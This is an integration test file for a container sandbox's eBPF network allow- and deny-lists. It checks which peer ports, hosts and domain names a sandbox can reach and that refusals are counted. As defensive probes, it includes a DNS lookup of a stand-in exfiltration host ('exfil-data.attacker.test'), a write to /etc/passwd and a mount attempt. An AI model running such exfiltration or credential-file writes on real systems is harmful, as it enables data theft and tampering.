// Privileged tests of the eBPF network allow-lists and denial counters
// (backends/net): the engine attaches once and its map entries come and go,
// container sandboxes reach exactly what their list allows on a "fake
// internet" peer (a separate net namespace with TCP echo servers), policy
// updates apply to the next connect, refused connects, syscalls and file
// writes are counted, and destroy leaves no veth, map entry or address.
#include "test/integration/container_fixture.hpp"

#include <arpa/inet.h>

#include "backends/net/net_allow.hpp"
#include "backends/net/net_policy.hpp"
#include "backends/net/sandbox_net.hpp"

namespace {

// A peer network namespace with an address on a host veth and TCP echo
// servers on 8080 and 8081 (python3 on the host).
struct peer {
  std::string ns, host_if, dir;
  int k = 0;
  std::string pid;

  peer() {
    k = 20 + int(::getpid() % 200);
    ns = "h4-peer-i" + std::to_string(::getpid());
    host_if = "h4pi" + std::to_string(::getpid() % 100000);
    sh("ip netns add " + ns);
    sh("ip link add " + host_if + " type veth peer name eth0 netns " + ns);
    sh("ip addr add 10.123." + std::to_string(k) + ".1/24 dev " + host_if + " && ip link set " +
       host_if + " up");
    sh("ip netns exec " + ns + " sh -c 'ip addr add " + addr() +
       "/24 dev eth0 && ip link set eth0 up && ip link set lo up && ip route add default via "
       "10.123." + std::to_string(k) + ".1'");
    dir = w().tmp + "/peer";
    sh("mkdir -p " + dir);
    std::ofstream(dir + "/echo.py") <<
      "import socket, threading\n"
      "def serve(port):\n"
      "    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
      "    s.bind(('0.0.0.0', port)); s.listen(16)\n"
      "    while True:\n"
      "        c, _ = s.accept(); c.settimeout(2)\n"
      "        try: c.sendall(b'echo:' + c.recv(100))\n"
      "        except Exception: pass\n"
      "        c.close()\n"
      "for p in (8080, 8081): threading.Thread(target=serve, args=(p,), daemon=True).start()\n"
      "threading.Event().wait()\n";
    pid = sh("ip netns exec " + ns + " /usr/bin/python3 " + dir +
             "/echo.py >/dev/null 2>&1 & echo $!");
    pid.erase(pid.find_last_not_of("\n") + 1);
    // Wait until both ports listen.
    for (int i = 0; i < 100; ++i) {
      auto r = sys::run_command({"/bin/sh", "-c", "ip netns exec " + ns + " ss -ltn | grep -c ':808[01] '"});
      if (r && r->output == "2\n")
        break;
      std::this_thread::sleep_for(milliseconds(30));
    }
  }
  ~peer() {
    ::kill(std::stoi(pid), SIGKILL);
    (void)sys::run_command({"ip", "link", "del", host_if});
    (void)sys::run_command({"ip", "netns", "del", ns});
  }
  std::string addr() const { return "10.123." + std::to_string(k) + ".2"; }
};

std::string talk(backends::sandbox& sb, const std::string& host, int port) {
  return run_sh(sb, "echo hi | nc -w 2 " + host + " " + std::to_string(port) + " 2>&1", "", 10)
    .stdout_data;
}

bool has_recent(const denial_counts& d, const std::string& what) {
  for (auto& r : d.recent)
    if (r == what)
      return true;
  return false;
}

// The sandbox veths of any dsec node on this host ("ds<tag>.<slot>").
std::string links() {
  return sh("ip -o link show | grep -oE 'ds[0-9a-f]{6}\\.[0-9]+@' | sort || true");
}

} // namespace

TEST_CASE("net: allow-list grammar", "[net][unit]") {
  auto e = net::parse_allow_entry("10.1.2.3:443");
  REQUIRE(e);
  CHECK(e->port == 443);
  CHECK(e->prefix == 128);
  CHECK(net::format_addr(e->addr) == "10.1.2.3");
  e = net::parse_allow_entry("10.0.0.0/8:*");
  REQUIRE(e);
  CHECK(e->port == 0);
  CHECK(e->prefix == 104);
  e = net::parse_allow_entry("[2001:db8::/32]:53");
  REQUIRE(e);
  CHECK(e->prefix == 32);
  e = net::parse_allow_entry("PyPI.org:443");
  REQUIRE(e);
  CHECK(e->domain == "pypi.org");
  for (auto bad : {"", "10.1.2.3", "10.1.2.3:0", "10.1.2.3:65536", "10.0.0.1/8:80",
                   "2001:db8::1:443", "-bad.com:80", "a..b:80", "10.0.0.0/33:1", "1.2.3:80",
                   "[1.2.3.4]:80", "x:y"}) {
    INFO(bad);
    auto r = net::parse_allow_entry(bad);
    CHECK_FALSE(r);
    if (!r)
      CHECK(r.err().message.find("network.allow entry") == 0);
  }
  std::vector<std::string> many(129, "1.2.3.4:1");
  CHECK_FALSE(net::parse_allow_list(many));
}

TEST_CASE("net: engine attaches once, entries come and go", "[net]") {
  if (!is_root())
    return;
  auto rel = "dsec/h4net-eng" + std::to_string(::getpid());
  auto parent = "/sys/fs/cgroup/unified/" + rel;
  {
    auto eng = net::policy_engine::load(parent, 3);
    INFO((eng ? "" : eng.err().message));
    REQUIRE(eng);
    auto shown = sh("bpftool cgroup show " + parent);
    for (auto hook : {"connect4", "connect6", "sendmsg4", "sendmsg6"}) {
      INFO(shown);
      CHECK(shown.find(hook) != std::string::npos);
    }
    sh("mkdir -p " + parent + "/child");
    auto cg = net::cgroup_id_of(parent + "/child");
    REQUIRE(cg);
    CHECK_FALSE((*eng)->has(*cg));
    net::rule r;
    r.addr = net::v4_mapped(htonl(0x0a000000));
    r.prefix = 104;
    REQUIRE((*eng)->put(*cg, {r}));
    CHECK((*eng)->has(*cg));
    CHECK((*eng)->denials(*cg).network == 0);
    std::vector<net::rule> too_many(129, r);
    CHECK_FALSE((*eng)->put(*cg, too_many));
    (*eng)->erase(*cg);
    CHECK_FALSE((*eng)->has(*cg));
    sh("rmdir " + parent + "/child");
  }
  // Unloading detaches everything.
  CHECK(sh("bpftool cgroup show " + parent).find("connect4") == std::string::npos);
  sh("rmdir " + parent);
}

TEST_CASE("net: mode none refuses and counts; syscall and file denials", "[net][denials]") {
  if (!is_root())
    return;
  sandbox_spec spec;
  spec.protect.readonly = {"/etc"};
  auto sb = make(spec);
  auto out = talk(*sb, "1.2.3.4", 443);
  CHECK(out.find("not permitted") != std::string::npos);
  CHECK(run_sh(*sb, "mount -t tmpfs x /mnt").exit_code != 0);
  CHECK(run_sh(*sb, "echo x > /etc/passwd").exit_code != 0);
  CHECK(run_sh(*sb, "cat /etc/passwd > /dev/null").exit_code == 0); // a read is no denial
  auto d = sb->denials();
  INFO(d.recent.size());
  CHECK(d.network == 1);
  CHECK(d.syscall >= 1);
  CHECK(d.file == 1);
  CHECK(has_recent(d, "net 1.2.3.4:443"));
  CHECK(has_recent(d, "syscall mount"));
  CHECK(has_recent(d, "file /etc/passwd"));
  CHECK(d.recent.size() <= 16);
  // An allow-list with a bad entry is refused with the entry named.
  network_policy bad;
  bad.allow = {"10.0.0.1/8:80"};
  auto st = sb->set_network(bad);
  REQUIRE_FALSE(st);
  CHECK(st.err().code == errc::invalid_argument);
  CHECK(st.err().message.find("10.0.0.1/8:80") != std::string::npos);
  REQUIRE(sb->destroy());
}

TEST_CASE("net: allow-list reaches exactly the allowed peer ports", "[net]") {
  if (!is_root())
    return;
  peer pr;
  auto before = links();
  sandbox_spec spec;
  spec.network.allow = {pr.addr() + ":8080"};
  auto p = w().params(spec);
  auto r = w().backend->create(p);
  INFO((r ? "" : r.err().message));
  REQUIRE(r);
  auto sb = *r;
  CHECK(run_sh(*sb, "ls /sys/class/net | tr '\\n' ' '").stdout_data == "eth0 lo ");
  CHECK(talk(*sb, pr.addr(), 8080) == "echo:hi\n");
  CHECK(talk(*sb, pr.addr(), 8081).find("not permitted") != std::string::npos);
  // IPv6 socket to the v4-mapped address: connect6 refuses it too.
  CHECK(talk(*sb, "::ffff:" + pr.addr(), 8081).find("not permitted") != std::string::npos);
  // The host itself is never reachable, even when listed: its peer-side
  // address and the bridge gateway.
  network_policy host;
  auto gw = sh("nsenter --net=/proc/" + std::to_string(sb->init_pid()) +
               "/ns/net ip route show default | cut -d' ' -f3");
  gw.erase(gw.find_last_not_of("\n") + 1);
  REQUIRE_FALSE(gw.empty());
  auto host_peer = "10.123." + std::to_string(pr.k) + ".1";
  host.allow = {pr.addr() + ":8080", host_peer + ":22", gw + ":*", "0.0.0.0/0:9999"};
  REQUIRE(sb->set_network(host));
  CHECK(talk(*sb, host_peer, 22).find("not permitted") != std::string::npos);
  CHECK(talk(*sb, gw, 80).find("not permitted") != std::string::npos);
  CHECK(talk(*sb, gw, 9999).find("not permitted") != std::string::npos);
  auto d = sb->denials();
  CHECK(d.network == 5);
  CHECK(has_recent(d, "net " + pr.addr() + ":8081"));
  CHECK(has_recent(d, "net " + gw + ":9999"));
  // A policy update applies to the next connect.
  network_policy swap;
  swap.allow = {pr.addr() + ":8081"};
  REQUIRE(sb->set_network(swap));
  CHECK(talk(*sb, pr.addr(), 8081) == "echo:hi\n");
  CHECK(talk(*sb, pr.addr(), 8080).find("not permitted") != std::string::npos);
  swap.allow = {"10.123.0.0/16:*"};
  REQUIRE(sb->set_network(swap));
  CHECK(talk(*sb, pr.addr(), 8080) == "echo:hi\n");
  swap.allow = {};
  REQUIRE(sb->set_network(swap));
  CHECK(talk(*sb, pr.addr(), 8080).find("not permitted") != std::string::npos);
  REQUIRE(sb->destroy());
  require_gone(p.id, p.dir, -1);
  CHECK(links() == before); // the veth went with it (the bridge stays with the node)
}

// Domain entries resolve through the node's DNS upstream (issue 29: the
// first nameserver of /etc/resolv.conf without --dns-upstream). The test
// runs dnsmasq in the peer's namespace naming the peer, and a copy of this
// program in a private mount namespace whose /etc/resolv.conf names that
// dnsmasq; the copy checks (test case [.h4domain]) that the name's address
// is reachable on the listed port only, and that the sandbox's own lookups
// of other names are refused and counted.
TEST_CASE("net: domain entries resolve through the node's resolver", "[net]") {
  if (!is_root())
    return;
  peer pr;
  auto conf = w().tmp + "/resolv.conf";
  std::ofstream(conf) << "nameserver " << pr.addr() << "\n";
  auto dns_pid = sh("nsenter --net=/run/netns/" + pr.ns + " -- dnsmasq --no-daemon --no-resolv "
                    "--no-hosts --listen-address=" + pr.addr() + " --bind-interfaces "
                    "--pid-file=" + w().tmp + "/dnsmasq.pid --user=root "
                    "--host-record=h4peer.test," + pr.addr() + " >/dev/null 2>&1 & echo $!");
  dns_pid.erase(dns_pid.find_last_not_of("\n") + 1);
  for (int i = 0; i < 100; ++i) {
    auto r = sys::run_command({"/bin/sh", "-c", "nsenter --net=/run/netns/" + pr.ns
                                                  + " ss -lun | grep -c ':53 '"});
    if (r && r->output != "0\n")
      break;
    std::this_thread::sleep_for(milliseconds(30));
  }
  char self[4096] = {};
  REQUIRE(::readlink("/proc/self/exe", self, sizeof(self) - 1) > 0);
  auto r = sys::run_command({"unshare", "-m", "--propagation", "private", "sh", "-c",
                             "mount --bind " + conf + " /etc/resolv.conf && H4_PEER=" + pr.addr()
                             + " exec " + self + " '[.h4domain]'"});
  ::kill(std::stoi(dns_pid), SIGKILL);
  REQUIRE(r);
  INFO(r->output);
  CHECK(r->exit_code == 0);
  CHECK(r->output.find("All tests passed") != std::string::npos);
  CHECK(r->output.find(" in 1 test case") != std::string::npos);
}

TEST_CASE("net: domain child", "[.h4domain]") {
  auto addr = ::getenv("H4_PEER");
  REQUIRE(addr);
  sandbox_spec spec;
  spec.network.allow = {"H4PEER.test:8080"};
  auto sb = make(spec);
  CHECK(talk(*sb, addr, 8080) == "echo:hi\n");
  CHECK(talk(*sb, addr, 8081).find("not permitted") != std::string::npos);
  // The sandbox's resolver answers the allowed name and refuses others.
  auto ok = run_sh(*sb, "nslookup h4peer.test 2>&1", "", 10).stdout_data;
  CHECK(ok.find(addr) != std::string::npos);
  run_sh(*sb, "nslookup exfil-data.attacker.test 2>&1", "", 10);
  auto d = sb->denials();
  CHECK(has_recent(d, "dns exfil-data.attacker.test"));
  REQUIRE(sb->destroy());
}

TEST_CASE("net: a name that does not resolve opens nothing and says so", "[net]") {
  if (!is_root())
    return;
  auto before = links();
  sandbox_spec spec;
  spec.network.allow = {"no-such-host.invalid:443"};
  auto p = w().params(spec);
  auto r = w().backend->create(p);
  REQUIRE(r);
  auto d = (*r)->denials();
  REQUIRE_FALSE(d.recent.empty());
  CHECK(d.recent.back().find("unresolved no-such-host.invalid:443: ") == 0);
  REQUIRE((*r)->destroy());
  require_gone(p.id, p.dir, -1);
  CHECK(links() == before);
}

// network.deny (backends/net/deny_list.hpp): the open internet but one
// port of the peer; a narrower allow wins over the deny; a deny of a whole
// range beside a catch-all closes it; refusals are counted.
TEST_CASE("net: deny entries close what the catch-all opens", "[net][deny]") {
  if (!is_root())
    return;
  peer pr;
  sandbox_spec spec;
  spec.network.allow = {"0.0.0.0/0:*"};
  spec.network.deny = {pr.addr() + ":8081"};
  auto p = w().params(spec);
  auto r = w().backend->create(p);
  INFO((r ? "" : r.err().message));
  REQUIRE(r);
  auto sb = *r;
  CHECK(talk(*sb, pr.addr(), 8080) == "echo:hi\n");
  CHECK(talk(*sb, pr.addr(), 8081).find("not permitted") != std::string::npos);
  CHECK(talk(*sb, "::ffff:" + pr.addr(), 8081).find("not permitted") != std::string::npos);
  auto d = sb->denials();
  CHECK(d.network == 2);
  CHECK(has_recent(d, "net " + pr.addr() + ":8081"));
  network_policy wins;
  wins.allow = {pr.addr() + ":8081", "0.0.0.0/0:*"};
  wins.deny = {"10.123.0.0/16:*"};
  REQUIRE(sb->set_network(wins));
  CHECK(talk(*sb, pr.addr(), 8081) == "echo:hi\n");
  CHECK(talk(*sb, pr.addr(), 8080).find("not permitted") != std::string::npos);
  network_policy bad;
  bad.allow = {"0.0.0.0/0:*"};
  bad.deny = {"example.com:*"};
  CHECK_FALSE(sb->set_network(bad));
  REQUIRE(sb->destroy());
  require_gone(p.id, p.dir, -1);
}
